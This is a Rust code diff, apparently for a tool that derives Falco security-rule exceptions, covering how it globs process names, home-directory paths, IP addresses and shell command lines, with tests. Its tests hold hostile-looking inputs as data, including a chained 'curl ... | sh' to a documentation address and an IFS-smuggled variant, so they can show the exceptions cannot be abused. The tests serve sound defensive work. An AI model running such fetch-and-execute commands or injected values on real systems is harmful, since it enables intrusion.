@@ -43,7 +43,9 @@ pub enum Kind {
     Pod,
     /// A command line.
     CmdLine,
-    /// Anything compared as given (process and ancestor names, image, namespace, user).
+    /// A process or ancestor name (`script_7311.sh`, `worker-3`): digit runs vary.
+    Name,
+    /// Anything compared as given (image, namespace, user).
     Exact,
 }
 
@@ -58,6 +60,8 @@ pub fn kind(field: &str) -> Kind {
         "fd.sip.name" | "fd.rip.name" => Kind::ServerName,
         "k8s.pod.name" | "container.name" => Kind::Pod,
         "proc.cmdline" | "proc.pcmdline" => Kind::CmdLine,
+        "proc.name" | "proc.pname" | "proc.aname" => Kind::Name,
+        f if f.starts_with("proc.aname[") => Kind::Name,
         _ => Kind::Exact,
     }
 }
@@ -129,6 +133,11 @@ fn exact(field: &str, distinct: &BTreeSet<&str>) -> Option<Gen> {
         if safe_for_eq(v) {
             return Some(gen(field, "=", ExVal::One(v.to_string()), 0));
         }
+        if kind(field) == Kind::CmdLine && is_shell_program(&v.split(' ').collect::<Vec<_>>()) {
+            // A prefix of a shell's program takes any command after it; its class glob
+            // (quotes as `?`) stands in instead.
+            return None;
+        }
         let p = safe_prefix(v);
         return (p.len() >= 4).then(|| gen(field, "startswith", ExVal::One(p), 0));
     }
@@ -151,16 +160,31 @@ pub fn ladder(field: &str, values: &[String]) -> Vec<Gen> {
     let mut out: Vec<Gen> = exact(field, &distinct).into_iter().collect();
     let k = kind(field);
     match k {
-        Kind::Path | Kind::Exe | Kind::CmdLine | Kind::ServerName => {
-            if let Some(g) = one_glob(&distinct) {
-                out.push(gen(field, "glob", ExVal::One(g), 1));
+        Kind::Path | Kind::Exe | Kind::CmdLine | Kind::ServerName | Kind::Name => {
+            match globs(k, &distinct) {
+                Some(g) if g.len() == 1 => out.extend(
+                    g.into_iter()
+                        .next()
+                        .map(|g| gen(field, "glob", ExVal::One(g), 1)),
+                ),
+                // Several shapes (`/root/.bash_history` and `/home/*/.bash_history`): one
+                // exception row per shape (synthesis expands a glob's list into rows).
+                Some(g) if g.len() <= MAX_IN && k != Kind::Name => {
+                    out.push(gen(field, "glob", ExVal::Many(g.into_iter().collect()), 1))
+                }
+                _ => {}
             }
         }
         _ => {}
     }
     match k {
         Kind::Path => {
-            if let Some(d) = directory(field, &distinct) {
+            // The directory widens the glob only when it has no variable part itself
+            // (`/proc/1/environ`: the glob `/proc/*/environ`, not everything in `/proc/1/`).
+            let fixed_dirs = distinct
+                .iter()
+                .all(|v| parent_dir(v).is_some_and(|d| masked(d).is_some_and(|(_, c)| !c)));
+            if let Some(d) = directory(field, &distinct).filter(|_| fixed_dirs) {
                 out.push(d);
             }
         }
@@ -214,7 +238,17 @@ fn masked(v: &str) -> Option<(String, bool)> {
             token.clear();
         }
     };
-    for c in v.chars() {
+    let ips = ipv4_spans(v);
+    for (i, c) in v.char_indices() {
+        if let Some(&(_, end)) = ips.iter().find(|(s, _)| *s == i) {
+            // An address is an endpoint, not a counter: it stays as it is.
+            flush(&mut token, &mut out);
+            out.push_str(&v[i..end]);
+            continue;
+        }
+        if ips.iter().any(|&(s, e)| s < i && i < e) {
+            continue;
+        }
         if c.is_ascii_alphanumeric() {
             token.push(c);
         } else {
@@ -234,6 +268,33 @@ fn masked(v: &str) -> Option<(String, bool)> {
         out = out.replace("**", "*");
     }
     safe_for_eq(&out).then_some((out, changed))
+}
+
+/// The byte spans of the IPv4 addresses written in a value (standing on their own: not
+/// inside a longer run of digits and dots, nor glued to a letter or `-`).
+pub fn ipv4_spans(v: &str) -> Vec<(usize, usize)> {
+    let b = v.as_bytes();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < b.len() {
+        if b[i].is_ascii_digit()
+            && (i == 0
+                || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'.' || b[i - 1] == b'-'))
+        {
+            let mut j = i;
+            while j < b.len() && (b[j].is_ascii_digit() || b[j] == b'.') {
+                j += 1;
+            }
+            let after_ok = j == b.len() || !(b[j].is_ascii_alphanumeric() || b[j] == b'-');
+            if after_ok && v[i..j].parse::<Ipv4Addr>().is_ok() {
+                out.push((i, j));
+            }
+            i = j.max(i + 1);
+        } else {
+            i += 1;
+        }
+    }
+    out
 }
 
 fn glob_token(t: &str) -> String {
@@ -264,12 +325,152 @@ fn glob_token(t: &str) -> String {
     t.to_string()
 }
 
-/// The one glob that covers every value, when they share it.
-fn one_glob(distinct: &BTreeSet<&str>) -> Option<String> {
-    let globs: BTreeSet<String> = distinct.iter().map(|v| glob_of(v)).collect::<Option<_>>()?;
-    (globs.len() == 1)
-        .then(|| globs.into_iter().next())
-        .flatten()
+/// The globs that cover the values: each value's variable parts masked, and in a path
+/// or a tool's command line the owner of a home directory (`/home/ops/.bashrc` →
+/// `/home/*/.bashrc`; a file of root's home is also the same file in any home). A
+/// shell's inline program (`sh -c ...`) gets no `*` at all: its variable parts become
+/// character classes of the same length ([`class_masked`]), so no command can be chained
+/// or substituted into what the glob takes. `None` when nothing varies at all or a value
+/// cannot be carried.
+fn globs(k: Kind, distinct: &BTreeSet<&str>) -> Option<BTreeSet<String>> {
+    let mut out = BTreeSet::new();
+    let mut any = false;
+    for v in distinct {
+        let shell = k == Kind::CmdLine && is_shell_program(&v.split(' ').collect::<Vec<_>>());
+        let (g, changed) = if shell {
+            class_masked(v)?
+        } else if matches!(k, Kind::Path | Kind::CmdLine) {
+            home_masked(v)?
+        } else {
+            masked(v)?
+        };
+        let literal = g
+            .chars()
+            .filter(|c| c.is_ascii_alphabetic() || *c == '/')
+            .count();
+        if changed && literal < 3 {
+            return None;
+        }
+        any |= changed;
+        if k == Kind::Path {
+            // root's home and the users' homes hold the same dot files.
+            if let Some(rest) = g.strip_prefix("/root/").filter(|r| r.starts_with('.')) {
+                out.insert(format!("/home/*/{rest}"));
+                any = true;
+            }
+            if let Some(rest) = g.strip_prefix("/home/*/").filter(|r| r.starts_with('.')) {
+                out.insert(format!("/root/{rest}"));
+            }
+        }
+        out.insert(g);
+    }
+    any.then_some(out)
+}
+
+/// The shapes a path takes in any home: `/root/.x` and `/home/NAME/.x` both give
+/// `/home/*/.x` (the same dot file in another user's home is the same target).
+pub fn home_shape(v: &str) -> String {
+    if let Some(rest) = v.strip_prefix("/root/").filter(|r| r.starts_with('.')) {
+        return format!("/home/*/{rest}");
+    }
+    home_masked(v).map_or_else(|| v.to_string(), |(m, _)| m)
+}
+
+/// [`masked`], and the owner's name of a home directory (`/home/NAME/...`, where
+/// `/home/` begins a path) as `*`: the same file in another user's home.
+fn home_masked(v: &str) -> Option<(String, bool)> {
+    let (m, changed) = masked(v)?;
+    let mut out = String::with_capacity(m.len());
+    let mut home = false;
+    let mut rest = m.as_str();
+    while let Some(i) = rest.find("/home/") {
+        let starts_path = i == 0 || rest[..i].ends_with([' ', '=']);
+        let (head, tail) = rest.split_at(i + "/home/".len());
+        out.push_str(head);
+        let end = tail.find(['/', ' ']).unwrap_or(tail.len());
+        let owner = &tail[..end];
+        // Only a home with something in it (`/home/ops/.bashrc`), not `/home/ops` itself.
+        if starts_path && tail[end..].starts_with('/') && !owner.is_empty() {
+            out.push('*');
+            home |= owner != "*";
+        } else {
+            out.push_str(owner);
+        }
+        rest = &tail[end..];
+    }
+    out.push_str(rest);
+    while out.contains("**") {
+        out = out.replace("**", "*");
+    }
+    Some((out, changed || home))
+}
+
+/// A shell program's glob: each variable token (as [`masked`] finds them) becomes one
+/// character class per character (`[0-9]`, `[0-9A-Fa-f]`, `[0-9A-Za-z]`), so the glob
+/// takes the next segment number or timestamp of the same length and never a shell
+/// metacharacter.
+fn class_masked(v: &str) -> Option<(String, bool)> {
+    if v.chars().any(char::is_control) {
+        return None;
+    }
+    let mut out = String::with_capacity(v.len() * 2);
+    let mut token = String::new();
+    let mut changed = false;
+    let flush = |token: &mut String, out: &mut String, changed: &mut bool| {
+        if token.is_empty() {
+            return;
+        }
+        let m = glob_token(token);
+        if m != *token {
+            *changed = true;
+            let stem = m.strip_suffix('*').unwrap_or("");
+            let var = &token[stem.len()..];
+            out.push_str(stem);
+            // A long run of digits is a hex identifier whose letters did not show this
+            // time (a WAL segment `000000010000000300000042`); a short one a number.
+            let class = if var.chars().all(|c| c.is_ascii_digit()) && var.len() < 12 {
+                "[0-9]"
+            } else if var.chars().all(|c| c.is_ascii_hexdigit()) {
+                "[0-9A-Fa-f]"
+            } else {
+                "[0-9A-Za-z]"
+            };
+            for _ in var.chars() {
+                out.push_str(class);
+            }
+        } else {
+            out.push_str(token);
+        }
+        token.clear();
+    };
+    let ips = ipv4_spans(v);
+    for (i, c) in v.char_indices() {
+        if let Some(&(_, end)) = ips.iter().find(|(s, _)| *s == i) {
+            flush(&mut token, &mut out, &mut changed);
+            out.push_str(&v[i..end]);
+            continue;
+        }
+        if ips.iter().any(|&(s, e)| s < i && i < e) {
+            continue;
+        }
+        if c.is_ascii_alphanumeric() {
+            token.push(c);
+        } else {
+            flush(&mut token, &mut out, &mut changed);
+            // Falco's quoting cannot carry a double quote or a backslash, and the value's
+            // own glob characters only approximately match themselves: one `?` each.
+            if matches!(c, '"' | '\\') {
+                changed = true;
+            }
+            out.push(if matches!(c, '*' | '?' | '[' | ']' | '"' | '\\') {
+                '?'
+            } else {
+                c
+            });
+        }
+    }
+    flush(&mut token, &mut out, &mut changed);
+    safe_for_eq(&out).then_some((out, changed))
 }
 
 /// Top-level directories too broad to be an exception's target on their own.
@@ -392,6 +593,22 @@ pub fn is_interpreter(name: &str) -> bool {
     )
 }
 
+/// Whether a command line (split on spaces) is a shell running a program given inline
+/// (`sh -c PROGRAM`, `bash -c ...`): everything after `-c` is shell text, where a
+/// command can be chained or substituted.
+pub fn is_shell_program(words: &[&str]) -> bool {
+    words.len() >= 3
+        && words[1] == "-c"
+        && matches!(
+            words[0]
+                .rsplit('/')
+                .next()
+                .unwrap_or_default()
+                .trim_end_matches(|c: char| c.is_ascii_digit()),
+            "sh" | "bash" | "dash" | "zsh" | "ash" | "ksh" | "busybox"
+        )
+}
+
 /// Where the command line stops being the command and starts being its arguments: the
 /// interpreter's script, module (`-m`), main class or jar; for other tools, the first
 /// word that is not an option (the subcommand). Returns the number of words kept.
@@ -427,11 +644,17 @@ fn script_prefix(distinct: &BTreeSet<&str>) -> Option<String> {
     let mut pats = BTreeSet::new();
     for v in distinct {
         let words: Vec<&str> = v.split(' ').collect();
+        if is_shell_program(&words) {
+            // A shell's program followed by anything takes any command chained after it.
+            return None;
+        }
         let n = command_words(&words);
         if n >= words.len() || n < 2 {
             // Nothing follows the script or subcommand: the exact value (or its glob) says it.
             return None;
         }
+        // The tool with any arguments (`strace *`) is never a rung: on the live corpus
+        // it silenced an attacker's `strace -p <sshd>` from the operator's own lineage.
         let (head, _) = masked(&words[..n].join(" "))?;
         pats.insert(format!("{head} *"));
     }
@@ -710,6 +933,26 @@ mod tests {
             &s(&["java -cp /app/lib/* com.example.Cleanup --keep 7"]),
         );
         assert!(g.iter().any(|g| matches!(&g.value, ExVal::One(v) if v.contains("com.example.Cleanup") && v.ends_with(" *"))), "{:?}", comps(&g));
+        // Never the tool with any arguments.
+        let g = ladder("proc.cmdline", &s(&["strace -f -p 40912 -e trace=network"]));
+        assert!(
+            !has(&g, "proc.cmdline", "glob", "strace *"),
+            "{:?}",
+            comps(&g)
+        );
+        let g = ladder("proc.cmdline", &s(&["tar czf /backup/etc.tgz /etc"]));
+        assert!(
+            has(&g, "proc.cmdline", "glob", "tar czf *"),
+            "{:?}",
+            comps(&g)
+        );
+        // Never for an interpreter: its script stays.
+        let g = ladder("proc.cmdline", &s(&["python3 -u /opt/app/job.py --x 1"]));
+        assert!(
+            has(&g, "proc.cmdline", "glob", "python* -u /opt/app/job.py *"),
+            "{:?}",
+            comps(&g)
+        );
         let g = ladder("proc.cmdline", &s(&["kubectl rollout restart deploy/web"]));
         assert!(
             has(&g, "proc.cmdline", "glob", "kubectl rollout *"),
@@ -727,6 +970,164 @@ mod tests {
                 && is_interpreter("bash")
         );
         assert!(!is_interpreter("rm") && !is_interpreter("logrotate"));
+    }
+
+    #[test]
+    fn shell_programs_glob_with_classes_never_a_star() {
+        let seg = "sh -c pgbackrest --stanza=main archive-push pg_wal/00000001000000120000003C";
+        let g = ladder("proc.cmdline", &s(&[seg]));
+        assert!(
+            g.iter()
+                .all(|g| !matches!(&g.value, ExVal::One(v) if v.contains('*'))),
+            "{:?}",
+            comps(&g)
+        );
+        let glob = g
+            .iter()
+            .find(|g| g.comp == "glob")
+            .expect("a class glob over the segment");
+        let ExVal::One(pat) = &glob.value else {
+            panic!("{glob:?}")
+        };
+        let m = |v: &str| crate::kinds::tests::fnmatch(pat, v);
+        assert!(m(
+            "sh -c pgbackrest --stanza=main archive-push pg_wal/0000000100000012000000AB"
+        ));
+        assert!(!m(&format!("{seg}; curl -s http://203.0.113.7/x | sh")));
+        assert!(!m(
+            "sh -c pgbackrest --stanza=main archive-push pg_wal/;curl${IFS}x|sh;########"
+        ));
+        // No script-and-anything rung for a shell's program.
+        let g = ladder(
+            "proc.cmdline",
+            &s(&["sh -c convert /srv/up/a.jpg /srv/th/a.png"]),
+        );
+        assert!(g.iter().all(|g| g.comp != "glob"), "{:?}", comps(&g));
+        // A quoted program: no prefix of it, a glob with the quotes as `?`.
+        let q = r#"sh -c printf "To: ops" | /usr/sbin/sendmail -t"#;
+        let g = ladder("proc.cmdline", &s(&[q]));
+        assert!(g.iter().all(|g| g.comp != "startswith"), "{:?}", comps(&g));
+        assert!(
+            has(
+                &g,
+                "proc.cmdline",
+                "glob",
+                "sh -c printf ?To: ops? | /usr/sbin/sendmail -t"
+            ),
+            "{:?}",
+            comps(&g)
+        );
+        assert!(is_shell_program(&["/bin/bash", "-c", "x"]));
+        assert!(!is_shell_program(&["python3", "-c", "x"]));
+    }
+
+    /// Falco's glob (fnmatch without flags), through the rules engine.
+    pub(crate) fn fnmatch(pat: &str, v: &str) -> bool {
+        let rules = "- rule: G\n  desc: d\n  condition: evt.type = execve\n  output: o\n  priority: NOTICE\n";
+        let block = crate::emit::block_yaml(
+            "G",
+            &[crate::emit::ExceptionSpec {
+                name: "g".into(),
+                fields: vec!["proc.cmdline".into()],
+                comps: vec!["glob".into()],
+                values: vec![vec![ExVal::One(pat.into())]],
+            }],
+            crate::emit::Style::Override,
+        );
+        let mut e = quell_rules::engine::Engine::new();
+        assert!(e.load("r.yaml", rules).successful);
+        let r = e.load("x.yaml", &block);
+        assert!(r.successful, "{block}: {:?}", r.errors);
+        let line = serde_json::json!({"evt.type": "execve", "proc.cmdline": v}).to_string();
+        let ev = quell_events::FlatEvent::from_json_line(&line).unwrap();
+        !e.rule("G").unwrap().matches(&ev)
+    }
+
+    #[test]
+    fn dot_files_in_home_directories_glob_the_owner() {
+        let g = ladder("fs.path.name", &s(&["/home/ubuntu/.bash_history"]));
+        let both = ExVal::Many(s(&["/home/*/.bash_history", "/root/.bash_history"]));
+        assert!(
+            g.iter().any(|g| g.comp == "glob" && g.value == both),
+            "{:?}",
+            comps(&g)
+        );
+        let g = ladder(
+            "fs.path.name",
+            &s(&["/root/.bash_history", "/home/ubuntu/.bash_history"]),
+        );
+        assert!(g.iter().any(|g| g.comp == "glob" && g.value == both));
+        // A file of root's home that is not a dot file stays root's.
+        let g = ladder("fd.name", &s(&["/root/backup.tar"]));
+        assert!(g.iter().all(|g| g.comp != "glob"), "{:?}", comps(&g));
+        // In a tool's command line too, where `/home/` begins a path.
+        let g = ladder("proc.cmdline", &s(&["rm -f /home/ops/.bash_history"]));
+        assert!(has(
+            &g,
+            "proc.cmdline",
+            "glob",
+            "rm -f /home/*/.bash_history"
+        ));
+        // A home directory itself, followed by another argument, is not masked.
+        let g = ladder("proc.cmdline", &s(&["restic backup /home/ops /etc/shadow"]));
+        assert!(
+            g.iter()
+                .all(|g| !matches!(&g.value, ExVal::One(v) if v.contains("/home/*"))),
+            "{:?}",
+            comps(&g)
+        );
+        let g = ladder("fd.name", &s(&["/srv/home/ops/x"]));
+        assert!(g.iter().all(|g| g.comp != "glob"), "{:?}", comps(&g));
+    }
+
+    #[test]
+    fn addresses_in_command_lines_stay_literal() {
+        let g = ladder(
+            "proc.cmdline",
+            &s(&["rsync -a /data/up2/ backup@10.70.0.20:/srv/backup/"]),
+        );
+        assert!(
+            has(
+                &g,
+                "proc.cmdline",
+                "glob",
+                "rsync -a /data/up*/ backup@10.70.0.20:/srv/backup/"
+            ),
+            "{:?}",
+            comps(&g)
+        );
+        assert_eq!(ipv4_spans("x 1.2.3.4:80 v1.2.3.4 9.9.9.9.9"), vec![(2, 9)]);
+    }
+
+    #[test]
+    fn a_variable_directory_is_globbed_not_taken_whole() {
+        let g = ladder("fd.name", &s(&["/proc/1/environ"]));
+        assert!(
+            has(&g, "fd.name", "glob", "/proc/*/environ"),
+            "{:?}",
+            comps(&g)
+        );
+        assert!(g.iter().all(|g| g.comp != "startswith"), "{:?}", comps(&g));
+    }
+
+    #[test]
+    fn process_names_glob_digit_runs() {
+        let g = ladder("proc.pname", &s(&["script_7311.sh"]));
+        assert!(
+            has(&g, "proc.pname", "glob", "script_*.sh"),
+            "{:?}",
+            comps(&g)
+        );
+        let g = ladder("proc.aname[2]", &s(&["script_7311.sh", "script_2290.sh"]));
+        assert!(
+            has(&g, "proc.aname[2]", "glob", "script_*.sh"),
+            "{:?}",
+            comps(&g)
+        );
+        // Several shapes of name stay a list.
+        let g = ladder("proc.pname", &s(&["worker1", "job2"]));
+        assert!(g.iter().all(|g| g.comp != "glob"), "{:?}", comps(&g));
+        assert_eq!(kind("proc.aname[3]"), Kind::Name);
     }
 
     #[test]
